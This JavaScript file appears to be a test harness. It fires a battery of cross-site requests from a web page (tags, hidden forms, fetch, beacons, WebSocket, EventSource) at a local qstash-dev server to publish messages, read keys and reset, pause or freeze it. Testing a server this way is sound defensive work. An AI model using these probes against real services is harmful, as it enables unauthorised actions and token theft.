// All that a web page can send to `there`, the address of a qstash-dev, so that it delivers something
// to `destination`. Resolves to what the page learnt: {means: text}, without what it could not read.

const PATIENCE_MS = 20000; // only a fault is that late

function within(promise) {
  const late = new Promise((resolve) => setTimeout(resolve, PATIENCE_MS, 'LATE'));
  return Promise.race([promise, late]).catch(() => undefined);
}

function element(tag, source, url, more = {}) {
  return new Promise((resolve) => {
    const made = document.createElement(tag);
    made.onload = () => resolve(tag === "iframe" ? readable(made) : `${tag} loaded`);
    made.onerror = () => resolve(undefined);
    Object.assign(made, more, { [source]: url });
    document.body.append(made);
  });
}

function readable(frame) {
  try {
    return frame.contentDocument?.body?.textContent || undefined;
  } catch {
    return undefined; // of another origin
  }
}

let frames = 0;

function form(method, type, url, fields) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${frames++}`;
    frame.hidden = true; // to draw what they show costs more than to send all this
    document.body.append(frame);
    const made = document.createElement("form");
    Object.assign(made, { method, action: url, enctype: type, target: frame.name });
    for (const [name, value] of Object.entries(fields)) {
      const field = document.createElement("input");
      Object.assign(field, { type: "hidden", name, value });
      made.append(field);
    }
    document.body.append(made);
    frame.onload = () => resolve(readable(frame));
    made.submit();
  });
}

async function fetched(url, options) {
  const answer = await fetch(url, options);
  return answer.type === "opaque" ? undefined : `${answer.status} ${await answer.text()}`;
}

function beacon(url, body) {
  return new Promise((resolve) => {
    const { href } = new URL(url); // 127.1 is written out
    const done = (list) => list.getEntries().some((e) => e.name === href) && resolve(undefined);
    new PerformanceObserver(done).observe({ type: "resource", buffered: true });
    navigator.sendBeacon(url, body);
  });
}

function stream(kind, url) {
  return new Promise((resolve) => {
    const made = new kind(url);
    made.onopen = () => resolve("open");
    made.onmessage = (event) => resolve(event.data);
    made.onerror = () => resolve(undefined);
  });
}

function everything(there, wanted, token) {
  const query = (means) => `${there}${wanted(means)}&qstash_token=${token}`;
  const plain = (means) => `${there}${wanted(means)}`;
  const bearer = { Authorization: `Bearer ${token}` };
  const reset = `${there}/_dev/reset`;
  const fields = Object.fromEntries(new URL(query("form GET")).searchParams);
  const action = query("form GET").split("?")[0];
  return {
    img: () => element("img", "src", query("img")),
    "img schedule": () =>
      element("img", "src", `${query("img schedule")}&upstash-cron=${encodeURIComponent("* * * * *")}`),
    script: () => element("script", "src", query("script")),
    style: () => element("link", "href", query("style"), { rel: "stylesheet" }),
    prefetch: () => element("link", "href", query("prefetch"), { rel: "prefetch" }),
    preload: () => element("link", "href", query("preload"), { rel: "preload", as: "image" }),
    video: () => element("video", "src", query("video"), { preload: "auto" }),
    object: () => element("object", "data", query("object")),
    iframe: () => element("iframe", "src", query("iframe"), { hidden: true }),
    "form GET": () => form("GET", "", action, fields),
    "form POST": () => form("POST", "application/x-www-form-urlencoded", query("form POST"), { a: 1 }),
    "form text": () => form("POST", "text/plain", query("form text"), { a: 1 }),
    "form file": () => form("POST", "multipart/form-data", query("form file"), { a: 1 }),
    "form batch": () =>
      form("POST", "text/plain", `${there}/v2/batch?qstash_token=${token}`, {
        [`[{"destination":"${wanted("form batch").split("/publish/")[1]}","body":"`]: '"}]',
      }),
    "fetch no-cors": () => fetched(query("fetch no-cors"), { mode: "no-cors" }),
    "fetch no-cors POST": () => fetched(query("fetch no-cors POST"), { mode: "no-cors", method: "POST" }),
    "fetch no-cors header": () =>
      fetched(plain("fetch no-cors header"), { mode: "no-cors", method: "POST", headers: bearer }),
    "fetch cors": () => fetched(query("fetch cors"), { method: "POST" }),
    "fetch cors GET": () => fetched(query("fetch cors GET"), {}),
    "fetch cors header GET": () => fetched(plain("fetch cors header GET"), { headers: bearer }),
    "fetch cors header": () => fetched(plain("fetch cors header"), { method: "POST", headers: bearer }),
    "read keys": () => fetched(`${there}/v2/keys?qstash_token=${token}`, {}),
    "read control": () => fetched(`${there}/_dev/snapshot`, { headers: bearer }),
    "read control plainly": () => fetched(`${there}/_dev/snapshot`, {}),
    "reset by form": () => form("POST", "text/plain", reset, {}),
    "reset by fetch": () => fetched(reset, { method: "POST" }),
    "pause by no-cors": () => fetched(`${there}/_dev/pause`, { method: "POST", mode: "no-cors" }),
    "clock by form": () => form("POST", "text/plain", `${there}/_dev/clock`, { '{"mode":"frozen"}': "" }),
    beacon: () => beacon(query("beacon"), "x"),
    "beacon reset": () => beacon(reset, "x"),
    WebSocket: () => stream(WebSocket, query("WebSocket").replace(/^http/, "ws")),
    EventSource: () => stream(EventSource, query("EventSource")),
    "EventSource control": () => stream(EventSource, `${there}/_dev/events`),
  };
}

async function attack({ there, destination, query, token }) {
  const wanted = (means) => `/v2/publish/${destination}/${means.replaceAll(" ", "-")}?${query}`;
  const tried = Object.entries(everything(there, wanted, token));
  const learnt = tried.map(async ([means, act]) => [means, await within(act())]);
  return Object.fromEntries(await Promise.all(learnt));
}
